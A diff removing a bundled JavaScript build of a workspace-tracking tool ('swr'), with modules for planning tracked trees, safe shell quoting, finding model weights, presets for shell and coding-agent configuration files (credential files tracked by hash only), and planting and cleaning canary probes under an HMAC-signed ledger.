-            const planned = planTree(ctx, name, blobs);
-            if (planned && 'why' in planned)
-                skipped.push({ path: name, why: planned.why });
-            else if (planned)
-                trees.push(planned);
-        }
-        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
-            scripts.push({ path: name, kind: 'file' });
-        }
-    }
-    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
-    return {
-        requests: [...trees, ...scripts, ...blobRequests],
-        skipped,
-        truncated: ctx.budget.exhausted
-    };
-}
-/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
-function untrackedBlobs(ctx) {
-    const out = [];
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            if (!ctx.budget.take())
-                return;
-            const abs = path.join(absDir, name);
-            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
-                continue;
-            const rel = joinRel(relDir, name);
-            const st = lstatOf(abs);
-            if (st?.isDirectory())
-                walk(abs, rel);
-            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
-                out.push(rel);
-        }
-    };
-    walk(ctx.workspace, '');
-    return out;
-}
-/**
- * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
- * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
- */
-function planTree(ctx, name, blobs) {
-    const root = path.join(ctx.workspace, name);
-    const inner = [
-        ...ctx.cov.trackedBelow(name),
-        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
-    ];
-    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
-    const ignored = ignoreMatcher(ignore);
-    const markers = TREE_MARKERS.filter(m => {
-        const st = lstatOf(path.join(root, m));
-        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
-    });
-    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
-    if (!anyFile)
-        return undefined;
-    if (markers.length === 0 && source === undefined)
-        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
-    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
-    return { path: name, kind: 'tree', ignore, sentinels };
-}
-/**
- * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
- * and whether the tree holds any file at all.
- */
-function firstSourceFile(ctx, root, ignored) {
-    const budget = scanBudget();
-    let anyFile = false;
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            const rel = joinRel(relDir, name);
-            const abs = path.join(absDir, name);
-            if (!budget.take())
-                return undefined;
-            if (ctx.exclude.has(abs))
-                continue;
-            const st = lstatOf(abs);
-            if (ignored(rel, name, st?.isDirectory() === true))
-                continue;
-            if (st?.isDirectory()) {
-                const found = walk(abs, rel);
-                if (found)
-                    return found;
-            }
-            else if (st) {
-                anyFile = true;
-                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
-                    return rel;
-            }
-        }
-        return undefined;
-    };
-    const source = walk(root, '');
-    return { source, anyFile };
-}
-
-;// CONCATENATED MODULE: ./src/core/shell-quote.ts
-/**
- * The one way swr writes a string into shell text it generates (exported recipe scripts, the
- * command lines it suggests). The result is a single word on a single line whatever the string
- * holds: a newline in a signed path or a hostile file name can never end a comment or start a
- * command.
- */
-
-const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
-function hasControl(s) {
-    for (let i = 0; i < s.length; i++)
-        if (isControl(s.charCodeAt(i)))
-            return true;
-    return false;
-}
-const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
-/**
- * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
- * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
- * still reads back as exactly `word` and never spans two lines.
- */
-function shell_quote_shellQuote(word) {
-    if (PLAIN.test(word))
-        return word;
-    if (!hasControl(word))
-        return `'${word.replace(/'/g, `'\\''`)}'`;
-    let out = '';
-    for (const ch of word) {
-        const c = ch.codePointAt(0) ?? 0;
-        if (ch === '\\' || ch === "'")
-            out += `\\${ch}`;
-        else if (shell_quote_NAMED[ch])
-            out += shell_quote_NAMED[ch];
-        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
-        else if (isControl(c))
-            for (const b of Buffer.from(ch))
-                out += `\\x${b.toString(16).padStart(2, '0')}`;
-        else
-            out += ch;
-    }
-    return `$'${out}'`;
-}
-
-;// CONCATENATED MODULE: ./src/core/author/hints.ts
-/**
- * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
- * as they are: every word that is not plainly safe is single-quoted.
- */
-
-
-
-
-
-function commandLine(words) {
-    return words.map(shellQuote).join(' ');
-}
-function targetWords(t) {
-    return [
-        ...(t.manifest ? ['-m', t.manifest] : []),
-        ...(t.workspace ? ['--workspace', t.workspace] : [])
-    ];
-}
-/** `swr add PATH --ignore ...` as typed from the current directory. */
-function addCommand(pathArg, ignore, t = {}) {
-    return commandLine([
-        'swr',
-        'add',
-        pathArg,
-        ...ignore.flatMap(r => ['--ignore', r]),
-        ...targetWords(t)
-    ]);
-}
-/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
-function lacksRecipe(e) {
-    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
-}
-/**
- * How to give a tracked entry a recipe or a cache source: `swr edit`, which validates, follows the
- * editing rules and re-signs when it may, so nobody edits JSON.
- */
-function recipeHint(t = {}) {
-    const words = targetWords(t).map(shellQuote).join(' ');
-    const tail = words ? ` ${words}` : '';
-    return `swr edit ID --restore '<shell command>'${tail} (or --add-source-cache KEY for an Actions cache)`;
-}
-/** For a small file that is no secret: the escrow command that restores it with no recipe. */
-function escrowHint(e, t = {}) {
-    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
-        return undefined;
-    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
-}
-
-;// CONCATENATED MODULE: ./src/core/author/models.ts
-/**
- * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
- * the other scans this one enters volatile directories: models usually live in caches
- * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
- * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
- * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
- * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
- * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
- */
-
-
-
-
-
-
-
-
-
-
-const MODEL_EXTENSIONS = (/* unused pure expression or super */ null && (['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt']));
-const DEFAULT_MIN_MODEL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
-function isModelName(name) {
-    const lower = name.toLowerCase();
-    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
-}
-function findModels(workspace, entries, exclude, minBytes) {
-    const root = fs.realpathSync(workspace);
-    const budget = scanBudget();
-    const found = new Map();
-    const keep = (m) => {
-        if (pathProblem(m.path))
-            return;
-        const seen = found.get(m.path);
-        if (!seen || (seen.via && !m.via))
-            found.set(m.path, m);
-    };
-    const walk = (absDir, relDir) => {
-        for (const name of listDir(absDir)) {
-            if (!budget.take())
-                return;
-            const abs = path.join(absDir, name);
-            if (isMetaName(name) || exclude.has(abs))
-                continue;
-            const rel = joinRel(relDir, name);
-            const st = lstatOf(abs);
-            if (st?.isDirectory())
-                walk(abs, rel);
-            else if (!st || !isModelName(name))
-                continue;
-            else if (st.isFile()) {
-                if (st.size >= minBytes)
-                    keep({ path: rel, bytes: st.size });
-            }
-            else if (st.isSymbolicLink()) {
-                const target = linkedFile(root, abs, minBytes);
-                if (target)
-                    keep({ ...target, via: rel });
-            }
-        }
-    };
-    walk(root, '');
-    const cov = coverageOf(entries);
-    const models = [...found.values()]
-        .map(m => {
-        const tracked = cov.trackedBy(m.path);
-        return tracked ? { ...m, tracked } : m;
-    })
-        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
-    return { models, truncated: budget.exhausted };
-}
-/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
-function linkedFile(root, link, minBytes) {
-    let real;
-    try {
-        real = fs.realpathSync(link);
-    }
-    catch {
-        return undefined;
-    }
-    if (!isInside(root, real) || real === root)
-        return undefined;
-    const st = lstatOf(real);
-    if (!st?.isFile() || st.size < minBytes)
-        return undefined;
-    return { path: path.relative(root, real).split(path.sep).join('/'), bytes: st.size };
-}
-/**
- * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
- * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
- * costs reading every byte; `fullHash` records it through the ordinary capture.
- */
-async function captureModel(workspace, req, taken, opts) {
-    if (opts.fullHash)
-        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
-            pool: opts.pool ?? {}
-        });
-    if (taken.has(req.id))
-        throw idTaken(req.id);
-    const loc = locateInside(workspace, req.path);
-    if (loc.state !== 'present')
-        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
-    if (!loc.st.isFile())
-        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
-    const ht = hashHeadTail(loc.abs);
-    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
-    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
-}
-
-;// CONCATENATED MODULE: ./src/core/author/presets.ts
-/**
- * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
- * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
- * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
- * tracked by hash, never escrowed.
- *
- * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
- * per-project history, session logs, histories, caches), because a hash of them would fail every
- * check; and large installed payloads (extensions) that a reinstall brings back.
- */
-
-
-
-
-
-
-
-
-const PRESETS = [
-    {
-        name: 'shell',
-        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
-        paths: [
-            '.bashrc',
-            '.bash_profile',
-            '.bash_login',
-            '.bash_logout',
-            '.bash_aliases',
-            '.profile',
-            '.zshrc',
-            '.zshenv',
-            '.zprofile',
-            '.zlogin',
-            '.inputrc',
-            '.vimrc',
-            '.tmux.conf',
-            '.config/fish/config.fish',
-            '.config/fish/functions',
-            '.gitconfig',
-            '.config/git/config',
-            '.config/git/ignore',
-            '.ssh/config',
-            '.ssh/authorized_keys',
-            '.ssh/id_*',
-            '.netrc',
-            '.git-credentials',
-            '.npmrc',
-            '.pypirc',
-            '.config/gh/config.yml',
-            '.config/gh/hosts.yml'
-        ]
-    },
-    {
-        name: 'claude-code',
-        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
-        paths: [
-            '.claude/settings.json',
-            '.claude/settings.local.json',
-            '.claude/CLAUDE.md',
-            '.claude/commands',
-            '.claude/agents',
-            '.claude/skills',
-            '.claude/hooks',
-            '.claude/rules',
-            '.claude/output-styles',
-            '.claude/.credentials.json'
-        ]
-    },
-    {
-        name: 'codex',
-        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
-        paths: [
-            '.codex/config.toml',
-            '.codex/AGENTS.md',
-            '.codex/AGENTS.override.md',
-            '.codex/prompts',
-            '.codex/agents',
-            '.codex/skills',
-            '.codex/rules',
-            '.codex/auth.json'
-        ]
-    },
-    {
-        name: 'aider',
-        description: 'aider: its configuration files and the .env holding API keys',
-        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
-    },
-    {
-        name: 'cursor',
-        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
-        paths: [
-            '.cursor/mcp.json',
-            '.cursor/cli-config.json',
-            '.cursor/rules',
-            '.config/Cursor/User/settings.json',
-            '.config/Cursor/User/keybindings.json',
-            '.config/Cursor/User/snippets'
-        ]
-    },
-    {
-        name: 'gemini',
-        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
-        paths: [
-            '.gemini/settings.json',
-            '.gemini/GEMINI.md',
-            '.gemini/commands',
-            '.gemini/oauth_creds.json'
-        ]
-    }
-];
-function presetNamed(name) {
-    const p = PRESETS.find(x => x.name === name);
-    if (!p)
-        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
-    return p;
-}
-
-function planPreset(workspace, preset, entries) {
-    const cov = coverageOf(entries);
-    const plan = { requests: [], skipped: [], absent: 0 };
-    for (const rel of preset.paths.flatMap(p => expand(workspace, p))) {
-        const loc = locateInside(workspace, rel);
-        if (loc.state === 'missing')
-            plan.absent++;
-        else if (loc.state === 'escapes')
-            plan.skipped.push({ path: rel, why: loc.why });
-        else {
-            const by = cov.trackedBy(rel);
-            const st = loc.st;
-            if (by)
-                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
-            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
-                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
-            else
-                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
-        }
-    }
-    return plan;
-}
-function requestFor(rel, isFile, isDir) {
-    if (isSecretPath(rel))
-        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
-    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
-}
-/** A preset path, or the names its glob matches now (sorted). */
-function expand(workspace, p) {
-    const base = path.posix.basename(p);
-    if (!/[*?[]/.test(base))
-        return [p];
-    const dir = path.posix.dirname(p);
-    const match = picomatch(base, { dot: true });
-    return listDir(path.join(workspace, dir))
-        .filter(n => match(n))
-        .map(n => `${dir}/${n}`);
-}
-
-;// CONCATENATED MODULE: ./src/core/author/retighten.ts
-/**
- * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
- * min_files goes up to the current file count when that is higher, and its max_files comes down
- * to the current count when that is lower (or is set when there was none). Only trees that verify
- * right now are touched: a damaged tree's count is the damage, not the truth.
- */
-
-
-/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
-function treesToRetighten(entries, only) {
-    const selected = selectEntries(entries, only);
-    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
-    const first = notTrees[0];
-    if (first)
-        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
-    return selected.filter((e) => e.kind === 'tree');
-}
-/** What to change, given each tree's finding from a check made just now. */
-function planRetighten(trees, findings) {
-    const byId = new Map(findings.map(f => [f.id, f]));
-    const plan = { changes: [], skipped: [] };
-    for (const e of trees) {
-        const f = byId.get(e.id);
-        const files = f?.found.files;
-        if (!f || f.status !== 'OK' || typeof files !== 'number') {
-            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
-            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
-            continue;
-        }
-        plan.changes.push(...boundChanges(e, files));
-    }
-    return plan;
-}
-function boundChanges(e, files) {
-    const out = [];
-    if (files > e.expect.min_files)
-        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
-    const max = e.expect.max_files;
-    if (max === undefined || files < max)
-        out.push({
-            id: e.id,
-            field: 'max_files',
-            from: max ?? null,
-            to: Math.max(files, e.expect.min_files)
-        });
-    return out;
-}
-/** Apply `changes` to the entries in place. */
-function applyRetighten(entries, changes) {
-    const byId = new Map(entries.map(e => [e.id, e]));
-    for (const c of changes) {
-        const e = byId.get(c.id);
-        if (e?.kind === 'tree')
-            e.expect[c.field] = c.to;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
-/**
- * Where a probe lives, said relative to a place that has another absolute path on the next runner:
- * the workspace (GITHUB_WORKSPACE moves between runners and checkouts), the home directory or the
- * temp directory. A ledger planted on one machine and read on another still finds its probes.
- */
-
-function inside(dir, abs) {
-    const rel = external_node_path_default().relative(dir, abs);
-    if (rel === '')
-        return '';
-    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
-        return undefined;
-    return rel.split((external_node_path_default()).sep).join('/');
-}
-/** The workspace first: a workspace inside $HOME is still described by the workspace. */
-function anchor_anchor(abs, anchors) {
-    for (const name of ['workspace', 'home', 'tmp']) {
-        const rel = inside(anchors[name], abs);
-        if (rel !== undefined)
-            return { anchor: name, rel };
-    }
-    return { anchor: 'abs', rel: external_node_path_default().resolve(abs) };
-}
-function resolveAnchored(a, anchors) {
-    if (a.anchor === 'abs')
-        return a.rel;
-    return a.rel === '' ? anchors[a.anchor] : external_node_path_default().join(anchors[a.anchor], ...a.rel.split('/'));
-}
-/** `~/x`, `$TMPDIR/x`, `x` (workspace) or the absolute path: short and unambiguous in reports. */
-function showAnchored(a) {
-    switch (a.anchor) {
-        case 'workspace':
-            return a.rel === '' ? '.' : a.rel;
-        case 'home':
-            return a.rel === '' ? '~' : `~/${a.rel}`;
-        case 'tmp':
-            return a.rel === '' ? '$TMPDIR' : `$TMPDIR/${a.rel}`;
-        case 'abs':
-            return a.rel;
-    }
-}
-/**
- * For tables: a 255-byte probe name or a 20-level path would push every column off the screen,
- * so long names keep their head and byte count, and deep paths their two ends.
- */
-function abbreviate(p) {
-    const segs = p
-        .split('/')
-        .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
-    return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/clean.ts
-/**
- * Removing exactly what a planting made: each probe only while it is still the kind of thing that
- * was planted (a probe name now holding a user's directory is left alone), then the directories
- * the planting created, deepest first, only when empty.
- */
-
-
-
-
-/**
- * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
- * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
- * outside the workspace) must at least sit in a directory that is not a symlink.
- */
-function locate(a, anchors) {
-    if (a.anchor !== 'abs')
-        return resolveNoFollow(anchors[a.anchor], a.rel);
-    const abs = resolveAnchored(a, anchors);
-    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
-        throw new SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
-    return abs;
-}
-function plantedKind(p) {
-    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
-}
-function removeIfPlanted(abs, kind, shown, out) {
-    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-    if (!st)
-        return;
-    const now = st.isSymbolicLink()
-        ? 'symlink'
-        : st.isDirectory()
-            ? 'dir'
-            : st.isFile()
-                ? 'file'
-                : 'other';
-    if (now !== kind) {
-        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
-        return;
-    }
-    try {
-        if (kind === 'dir')
-            external_node_fs_default().rmdirSync(abs);
-        else
-            external_node_fs_default().unlinkSync(abs);
-        out.removed.push(shown);
-    }
-    catch (e) {
-        out.kept.push({ path: shown, why: e.code ?? String(e) });
-    }
-}
-function cleanLedger(ledger, anchors) {
-    const out = { removed: [], kept: [] };
-    // Links first, then files, then the empty directory a link points at.
-    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
-    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
-        let abs;
-        try {
-            abs = locate(p.path, anchors);
-        }
-        catch (e) {
-            if (!(e instanceof SymlinkRefusal))
-                throw e;
-            out.kept.push({ path: showAnchored(p.path), why: e.message });
-            continue;
-        }
-        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
-        if (p.expect.type === 'hardlink') {
-            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
-            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
-        }
-    }
-    const dirs = ledger.locations.flatMap(l => l.created);
-    for (const d of dirs.reverse()) {
-        let abs;
-        try {
-            abs = locate(d, anchors);
-        }
-        catch (e) {
-            if (!(e instanceof SymlinkRefusal))
-                throw e;
-            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
-            continue;
-        }
-        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
-        if (!st?.isDirectory())
-            continue;
-        try {
-            external_node_fs_default().rmdirSync(abs);
-            out.removed.push(showAnchored(d) + '/');
-        }
-        catch {
-            out.kept.push({
-                path: showAnchored(d) + '/',
-                why: 'not empty: holds files that were not planted'
-            });
-        }
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/probes.ts
-/**
- * Probe classes: each one asks a different question of whatever keeps (or drops) files between
- * runs. Does it keep exec bits? Private modes? Symlinks, to files and to directories? Empty
- * directories? Hard links as links? 255-byte and non-ASCII names? Dotfiles? Files above a size
- * cap? A probe records everything it expects, so a read names the attribute that changed.
- *
- * Every probe is created exclusively (O_EXCL, never following a link): planting never replaces a
- * file, and names carry the planting's random id so they cannot meet a user's file by chance.
- */
-
-
-
-
-const PROBE_CLASSES = [
-    'stamp',
-    'script',
-    'private',
-    'symlink',
-    'dirlink',
-    'emptydir',
-    'hardlink',
-    'longname',
-    'unicode',
-    'dotfile',
-    'large'
-];
-const CLASS_QUESTION = {
-    stamp: 'small file with a random stamp',
-    script: 'executable script (0755)',
-    private: 'private file (0600)',
-    symlink: 'relative symlink to a file',
-    dirlink: 'symlink to a directory',
-    emptydir: 'empty directory',
-    hardlink: 'hard-link pair',
-    longname: 'file name of 255 bytes',
-    unicode: 'non-ASCII file name',
-    dotfile: 'dotfile',
-    large: 'large file (size caps)'
-};
-/** The bytes names may use, so a 255-byte name fits every common file system's limit exactly. */
-const NAME_MAX = 255;
-function probeName(plantId, cls) {
-    const base = `swr-canary-${plantId}-${cls}`;
-    switch (cls) {
-        case 'dotfile':
-            return `.${base}`;
-        case 'unicode':
-            // NFC on purpose: a store that normalises to NFD changes the name, which reads as lost.
-            return `${base}-\u00fcn\u00efc\u00f8d\u00e9-\u540d\u524d-\u{1f424}`.normalize('NFC');
-        case 'longname':
-            return base + '-' + 'l'.repeat(NAME_MAX - Buffer.byteLength(base) - 1);
-        case 'hardlink':
-            return `${base}-a`;
-        default:
-            return base;
-    }
-}
-function hardlinkPeerName(plantId) {
-    return `swr-canary-${plantId}-hardlink-b`;
-}
-function probes_octal(mode) {
-    return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
-}
-function sha256(data) {
-    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
-}
-const probes_CREATE = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
-/**
- * Open a new probe file exclusively and count it as created at once: a write that fails after
- * the open (a full disk) must still be undone.
- */
-function openProbe(abs, mode, created) {
-    const fd = external_node_fs_default().openSync(abs, probes_CREATE, mode);
-    created.push(abs);
-    return fd;
-}
-/** Create `abs` exclusively with exactly `mode` (fchmod, so the umask cannot narrow it). */
-function probes_createFile(abs, data, mode, created) {
-    const fd = openProbe(abs, mode, created);
-    try {
-        writeAll(fd, data);
-        external_node_fs_default().fchmodSync(fd, mode);
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-}
-/**
- * Incompressible bytes, streamed: a cache that compresses would otherwise store 64 MiB of zeros
- * in a few kilobytes and never meet its size cap. AES-CTR keystream under a random key is fast
- * and needs no buffer of the whole size.
- */
-function createLarge(abs, size, created) {
-    const cipher = (0,external_node_crypto_.createCipheriv)('aes-256-ctr', (0,external_node_crypto_.randomBytes)(32), (0,external_node_crypto_.randomBytes)(16));
-    const hash = (0,external_node_crypto_.createHash)('sha256');
-    const zero = Buffer.alloc(1 << 20);
-    const fd = openProbe(abs, 0o644, created);
-    try {
-        for (let left = size; left > 0;) {
-            const n = Math.min(left, zero.length);
-            const chunk = cipher.update(zero.subarray(0, n));
-            writeAll(fd, chunk);
-            hash.update(chunk);
-            left -= n;
-        }
-        external_node_fs_default().fchmodSync(fd, 0o644);
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-    return hash.digest('hex');
-}
-function stampText(plantId, cls) {
-    return Buffer.from(`swr canary ${plantId} ${cls} ${(0,external_node_crypto_.randomBytes)(12).toString('hex')}\n`);
-}
-/**
- * Plant one probe of `cls` in `ctx.dir`; returns its expectation, with paths relative to the
- * directory (the caller anchors them). Throws on EEXIST and every other failure; a disk error
- * (full, quota, I/O) as the one line naming the probe that every write of swr gives (exit 74).
- */
-function plantProbe(cls, ctx) {
-    const abs = external_node_path_default().join(ctx.dir, probeName(ctx.plantId, cls));
-    try {
-        return plantOne(cls, ctx);
-    }
-    catch (err) {
-        throw asWriteError(err, abs);
-    }
-}
-function plantOne(cls, ctx) {
-    const name = probeName(ctx.plantId, cls);
-    const abs = external_node_path_default().join(ctx.dir, name);
-    const file = (data, mode) => {
-        probes_createFile(abs, data, mode, ctx.created);
-        return { type: 'file', mode: probes_octal(mode), size: data.length, sha256: sha256(data) };
-    };
-    switch (cls) {
-        case 'script': {
-            const body = `#!/bin/sh\n# swr canary ${ctx.plantId}\necho ${(0,external_node_crypto_.randomBytes)(8).toString('hex')}\n`;
-            return { name, expect: file(Buffer.from(body), 0o755) };
-        }
-        case 'private':
-            return { name, expect: file(stampText(ctx.plantId, cls), 0o600) };
-        case 'stamp':
-        case 'longname':
-        case 'unicode':
-        case 'dotfile':
-            return { name, expect: file(stampText(ctx.plantId, cls), 0o644) };
-        case 'large': {
-            const digest = createLarge(abs, ctx.largeBytes, ctx.created);
-            return { name, expect: { type: 'file', mode: '0644', size: ctx.largeBytes, sha256: digest } };
-        }
-        case 'emptydir':
-            external_node_fs_default().mkdirSync(abs, { mode: 0o755 });
-            ctx.created.push(abs);
-            external_node_fs_default().chmodSync(abs, 0o755);
-            return { name, expect: { type: 'dir', mode: '0755' } };
-        case 'symlink':
-        case 'dirlink': {
-            // Relative targets: an absolute one would point back at the old machine after a move.
-            const target = cls === 'symlink' ? probeName(ctx.plantId, 'stamp') : probeName(ctx.plantId, 'emptydir');
-            external_node_fs_default().symlinkSync(target, abs);
-            ctx.created.push(abs);
-            return {
-                name,
-                expect: { type: 'symlink', target, resolves: cls === 'symlink' ? 'file' : 'dir' }
-            };
-        }
-        case 'hardlink': {
-            const data = stampText(ctx.plantId, cls);
-            probes_createFile(abs, data, 0o644, ctx.created);
-            const peer = hardlinkPeerName(ctx.plantId);
-            external_node_fs_default().linkSync(abs, external_node_path_default().join(ctx.dir, peer));
-            ctx.created.push(external_node_path_default().join(ctx.dir, peer));
-            return {
-                name,
-                expect: { type: 'hardlink', mode: '0644', size: data.length, sha256: sha256(data), peer }
-            };
-        }
-    }
-}
-/** Links need their targets first: plant in this order. */
-function plantingOrder(classes) {
-    const rank = (c) => (c === 'symlink' || c === 'dirlink' ? 1 : 0);
-    return [...classes].sort((a, b) => rank(a) - rank(b));
-}
-
-;// CONCATENATED MODULE: ./src/core/canary/ledger.ts
-/**
- * The canary ledger: what one planting put where, kept in the private state directory (0600,
- * written atomically). It is the only record of the probes, so reading it is strict: a damaged
- * ledger is an error naming the field, never a silent "everything lost".
- *
- * Clean removes what the ledger names, so the ledger is authenticated before anything acts on it:
- * HMAC-SHA256 over its canonical JSON under a key kept beside it (ledger.key, 32 random bytes,
- * created 0600 with the first planting). A ledger that fails is refused in one line and nothing is
- * removed. The key guards against a ledger written by anything but swr with this state directory;
- * where the state directory itself travels (the Action's cache), it is as strong as that channel,
- * and the name rules below still confine what a ledger may name.
- */
-
-
-
-
-
-
-
-
-const LEDGER_FORMAT = 'swr-canary-ledger/1';
-const CANARY_DIR = 'canary';
-const LEDGER_FILE = 'ledger.json';
-const KEY_FILE = 'ledger.key';
-const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
-function ledgerPath(stateDir) {
-    return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
-}
-function keyPath(stateDir) {
-    return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
-}
-/** The ledger key, or undefined when there is none (nothing was planted with this state). */
-function readKey(stateDir) {
-    const file = keyPath(stateDir);
-    let fd;
-    try {
-        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
-    }
-    catch (e) {
-        if (e.code === 'ENOENT')
-            return undefined;
-        throw bad(file, `cannot be read (${e.code ?? String(e)})`);
-    }
-    try {
-        const buf = Buffer.alloc(128);
-        const n = external_node_fs_default().readSync(fd, buf, 0, buf.length, 0);
-        const text = buf.subarray(0, n).toString('utf8').trim();
-        if (!/^[0-9a-f]{64}$/.test(text))
-            throw bad(file, 'is not a ledger key (64 hex digits)');
-        return Buffer.from(text, 'hex');
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-}
-/** The key, created on first use (exclusively, 0600: a concurrent creator's key wins). */
-function ledgerKey(stateDir) {
-    const have = readKey(stateDir);
-    if (have)
-        return have;
-    state_dir_ensurePrivateDir(stateDir, CANARY_DIR);
-    try {
-        atomic_writeFileAtomic(keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
-            mode: 0o600,
-            exclusive: true
-        });
-    }
-    catch (e) {
-        if (e.code !== 'EEXIST')
-            throw e;
-    }
-    const key = readKey(stateDir);
-    if (!key)
-        throw bad(keyPath(stateDir), 'vanished after it was created');
-    return key;
-}
